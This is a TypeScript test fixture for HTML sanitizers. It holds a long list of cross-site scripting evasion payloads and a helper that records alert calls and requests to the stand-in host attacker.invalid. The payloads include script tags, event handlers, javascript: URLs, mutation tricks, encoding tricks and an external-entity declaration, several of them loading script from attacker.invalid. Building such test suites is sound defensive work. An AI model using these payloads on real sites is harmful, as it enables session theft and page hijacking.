/**
 * Text as an attacker would have it stand in a record: the kinds of the OWASP filter-evasion cheat sheet, typed anew, and what broke
 * sanitizers since. Each would call `alert` or load from `attacker.invalid` if somebody made markup, an address or a style of it.
 */
export const hostileStrings: readonly string[] = [
  // Plain script, in every dress
  `<script>alert(1)</script>`, `<SCRIPT SRC=https://attacker.invalid/x.js></SCRIPT>`, `<script src="//attacker.invalid/x.js">`, `<ScRiPt>alert(1)</sCrIpT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script\n>alert(1)</script\n>`, `<script/x>alert(1)</script>`, `<<script>alert(1);//<</script>`, `</script><script>alert(1)</script>`, `<script>/*</script><svg onload=alert(1)>*/`,
  `<script src=data:text/javascript,alert(1)></script>`, `<script type=module>import 'https://attacker.invalid/x.js'</script>`, `\\";alert(1);//`, `'-alert(1)-'`, `\${alert(1)}`, `{{constructor.constructor('alert(1)')()}}`, `javascript:alert(1)`,
  `"><script>alert(String.fromCharCode(88,83,83))</script>`, `<a"/onclick=(alert)(1)>Click<a>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  // Pictures and what else loads
  `<img src=x onerror=alert(1)>`, `<IMG SRC="javascript:alert(1);">`, `<img src=JaVaScRiPt:alert(1)>`, `<img src="jav\tascript:alert(1)">`, `<img src="jav&#x09;ascript:alert(1)">`, `<img src="&#106;&#97;&#118;&#97;script:alert(1)">`,
  `<img src="&#0000106avascript:alert(1)">`, `<img src=\`javascript:alert("a 'b'")\`>`, `<img """><script>alert(1)</script>">`, `<img src= onmouseover="alert(1)">`, `<img/onerror="alert(1)"src=x>`, `<img src=x:alert(alt) onerror=eval(src) alt=1>`,
  `<img src=x onerror="&#0000097lert(1)">`, `<img src="https://attacker.invalid/pixel.png">`, `<img srcset="https://attacker.invalid/pixel.png 2x">`, `<img src=//attacker.invalid/p.png loading=eager>`, `<img dynsrc="javascript:alert(1)">`, `<img lowsrc="javascript:alert(1)">`,
  `<picture><source srcset=https://attacker.invalid/s.png><img src=x></picture>`, `<input type=image src=https://attacker.invalid/i.png onerror=alert(1)>`, `<video poster=https://attacker.invalid/p.png><source onerror=alert(1)></video>`, `<video src=x onerror=alert(1)></video>`,
  `<audio src=https://attacker.invalid/a.mp3 autoplay onerror=alert(1)>`, `<track src=https://attacker.invalid/t.vtt>`, `<body background="https://attacker.invalid/b.png">`, `<table background="javascript:alert(1)"><td background="https://attacker.invalid/t.png">x</td></table>`,
  `<bgsound src="https://attacker.invalid/s.wav">`, `<link rel=stylesheet href=https://attacker.invalid/x.css>`, `<link rel=prefetch href=https://attacker.invalid/p>`, `<link rel=import href=data:text/html,<script>alert(1)</script>>`, `<object data=https://attacker.invalid/o.swf></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`, `<embed src=https://attacker.invalid/e.swf allowscriptaccess=always>`, `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<applet code=x codebase=https://attacker.invalid/></applet>`,
  // Frames, forms, moving the page
  `<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, `<iframe src=https://attacker.invalid/ onload=alert(1)></iframe>`, `<frameset><frame src="javascript:alert(1)"></frameset>`, `<base href="https://attacker.invalid/"><img src=x.png>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=refresh content="0;url=https://attacker.invalid/">`, `<form action=https://attacker.invalid/f><button autofocus>Sign in</button></form>`, `<form><button formaction=javascript:alert(1)>x</button></form>`, `<isindex type=image src=x onerror=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)></textarea>`, `<keygen autofocus onfocus=alert(1)>`, `<form id=x></form><button form=x formaction=https://attacker.invalid/>x</button>`, `<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>`,
  // Handlers that need nobody
  `<body onload=alert(1)>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`, `<div onanimationstart=alert(1) style="animation:x 1s"></div><style>@keyframes x{}</style>`, `<div style="transition:all 1s" ontransitionend=alert(1)>`,
  `<x onclick=alert(1) id=x tabindex=0 autofocus onfocus=alert(1)>x</x>`, `<p onpointerrawupdate=alert(1) onbeforetoggle=alert(1) popover>x</p>`, `<a href=# onauxclick=alert(1) ondrag=alert(1)>x</a>`, `<div contenteditable onbeforeinput=alert(1)>x</div>`,
  // Addresses that are no addresses
  `<a href="javascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="java\nscript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="\u0001javascript:alert(1)">x</a>`, `<a href="https://attacker.invalid/" ping="https://attacker.invalid/ping" target=_top>x</a>`,
  `<a href="http://portal.example@attacker.invalid/">https://portal.example</a>`, `<a href="blob:https://attacker.invalid/1">x</a>`, `<area shape=default href="javascript:alert(1)">`, `<a href="feed:javascript:alert(1)">x</a>`,
  // Styles
  `<style>@import 'https://attacker.invalid/x.css';</style>`, `<style>*{background:url(https://attacker.invalid/b.png)}</style>`, `<div style="background:url(https://attacker.invalid/d.png)">x</div>`, `<div style="background-image:\\75rl(https://attacker.invalid/d.png)">x</div>`, `<div style="width:expression(alert(1))">x</div>`,
  `<div style="-moz-binding:url(https://attacker.invalid/x.xml#a)">x</div>`, `<p style="position:fixed;inset:0;z-index:2147483647">Call this number</p>`, `<style></style><img src="</style><img src=x onerror=alert(1)//">`,
  // Drawings and formulas, where parsers differ
  `<svg><script>alert(1)</script></svg>`, `<svg><script href=https://attacker.invalid/x.js /></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>`,
  `<svg><image href=https://attacker.invalid/i.png /></svg>`, `<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math href="javascript:alert(1)"><mi>x</mi></math>`, `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`,
  // Markup of other kinds, and names that get in the way
  `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<!--<img src="--><img src=x onerror=alert(1)//">`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "https://attacker.invalid/e">]><x>&e;</x>`, `<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1);">]]></c></x></xml>`,
  `<template><img src=x onerror=alert(1)></template>`, `<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>`, `<slot name=x onslotchange=alert(1)></slot>`, `<portico-provider backend=https://attacker.invalid/></portico-provider>`, `<img name=createElement><img name=getElementById>`, `<form name=body><input name=parentNode><input name=attributes></form>`,
  `<title>x</title><textarea></title></textarea><img src=x onerror=alert(1)>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<select><template><style><img src=x onerror=alert(1)></style></template></select>`,
  // Letters that are not what they seem
  `\u202e<img src=x onerror=alert(1)>\u202c`, `＜script＞alert(1)＜/script＞`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `%3Cimg%20src=x%20onerror=alert(1)%3E`, `&lt;img src=x onerror=alert(1)&gt;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, `\\u003cimg src=x onerror=alert(1)\\u003e`, `<\u0000script>alert(1)</script>`, `<img src=x\u0000onerror=alert(1)>`,
];

/** What came of them, from now on: calls of `alert` and its like, and requests to `attacker.invalid`. */
export function watchHostile(): { ran: string[]; asked: () => string[]; end: () => void } {
  const ran: string[] = [];
  const names = ['alert', 'confirm', 'prompt', 'print', 'open'] as const;
  const before = names.map((name) => window[name]);
  for (const name of names) window[name] = ((text?: unknown) => { ran.push(`${name}(${String(text)})`); return null; }) as never;
  const from = performance.now();
  performance.setResourceTimingBufferSize(5000);
  const refused: string[] = [];
  const note = ({ blockedURI, violatedDirective }: SecurityPolicyViolationEvent): void => { if (blockedURI.includes('attacker.invalid') || /inline|eval/.test(blockedURI)) refused.push(`${violatedDirective} ${blockedURI}`); };
  document.addEventListener('securitypolicyviolation', note);
  return {
    ran,
    asked: () => [...performance.getEntriesByType('resource').filter(({ name, startTime }) => startTime >= from && name.includes('attacker.invalid')).map(({ name }) => name), ...refused],
    end() {
      names.forEach((name, index) => { window[name] = before[index] as never; });
      document.removeEventListener('securitypolicyviolation', note);
    },
  };
}
